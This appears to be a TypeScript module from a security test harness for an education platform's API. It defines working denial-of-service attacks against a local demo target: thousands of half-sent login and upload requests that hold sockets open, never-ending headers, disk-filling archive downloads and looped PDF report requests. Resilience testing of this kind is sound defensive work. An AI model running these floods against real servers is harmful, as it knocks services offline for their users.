import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { reportDownload } from '#domain/report/calls.ts'
import type { Attack, Target } from './attack.ts'
import { findSize } from './disk.ts'

/** Longer than any body, header or answer may take. */
const longestMs = 75_000

/** Many connections that stay as they are. @returns how many are open after the longest time that one may take */
async function hold(target: Target, count: number, text: string): Promise<number> {
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(target.port, 'localhost')
    socket.on('error', () => undefined).resume()
    socket.write(text)
    return socket
  })
  const closed = Promise.all(sockets.map(closeOf))
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, longestMs))])
  const open = sockets.filter((socket) => !socket.closed).length
  for (const socket of sockets) socket.destroy()
  return open
}

const closeOf = (socket: Socket) => once(socket, 'close').catch(() => undefined)

const head = (path: string, headers: string[]) =>
  [`POST ${path} HTTP/1.1`, 'host: localhost', ...headers, '', ''].join('\r\n')

const json = 'content-type: application/json'
const loginPath = '/api/v2/user/v3/login'

function holding(name: string, count: number, textOf: (target: Target) => Promise<string>): Attack {
  return {
    name,
    run: async (target) => {
      const open = await hold(target, count, await textOf(target))
      return { attempts: count, found: open > 0 ? [`${open} connections stay open`] : [] }
    },
  }
}

export const floods: Attack[] = [
  holding('half-sent logins of 15 KB', 2000, async () =>
    [head(loginPath, [json, 'content-length: 16000']), '{"user_name":"', 'a'.repeat(15_000)].join(''),
  ),
  holding('half-sent logins of 1 MB in chunks', 2000, async () =>
    [head(loginPath, [json, 'transfer-encoding: chunked']), 'f4240\r\n', 'a'.repeat(1_000_000)].join(''),
  ),
  holding('headers that never end', 1000, async () => 'GET / HTTP/1.1\r\nhost: localhost\r\nx-a: '),
  holding('half-sent forms of one pupil', 20, async (target) => {
    const { student_auth } = await target.signIn('9000000001')
    const type = 'content-type: multipart/form-data; boundary=x'
    const path = '/api/v2/onlineAssignment/student/updateAssignment'
    const file = '--x\r\ncontent-disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n'
    return (
      head(path, [`authorization: ${student_auth}`, type, 'content-length: 140000000']) +
      file +
      'a'.repeat(1_000_000)
    )
  }),
  {
    name: 'archives of every choice of attachments',
    run: async (target) => {
      const { student_auth, institute_id } = await target.signIn('9000000001')
      const before = await findSize(target.folder)
      const attempts = 60
      for (let n = 0; n < attempts; n += 1)
        await fetch(`${target.origin}/api/v2/onlineAssignment/downloadFile`, {
          method: 'POST',
          headers: { authorization: student_auth, 'content-type': 'application/json' },
          body: JSON.stringify({ institute_id, attachmentId_array: [1 + (n % 8), 9 + (n % 7)] }),
        }).then((answer) => answer.text())
      const kept = (await findSize(target.folder)) - before
      return { attempts, found: kept > 20_000_000 ? [`${Math.round(kept / 1e6)} MB are kept`] : [] }
    },
  },
  {
    name: 'one’s own report as a PDF, four loops',
    run: async (target) => {
      const person = await target.signIn('9000000001')
      const answer = await fetch(`${target.origin}/student/standings/${person.user_id}`, {
        headers: { authorization: person.examdesk_auth_token },
      })
      const { data } = (await answer.json()) as { data: { test_id: number }[] }
      const [test] = data
      if (!test) throw new Error('the demo has no report')
      const path = reportDownload.path
        .replace(':account_id', String(person.account_id))
        .replace(':user_id', String(person.user_id))
        .replace(':test_id', String(test.test_id))
      const until = Date.now() + 10_000
      let attempts = 0
      await Promise.all(
        [1, 2, 3, 4].map(async () => {
          while (Date.now() < until) {
            await fetch(target.origin + path, {
              headers: { authorization: person.scorecard_auth_token },
            }).then((one) => one.arrayBuffer())
            attempts += 1
          }
        }),
      )
      return { attempts, found: [] }
    },
  },
]
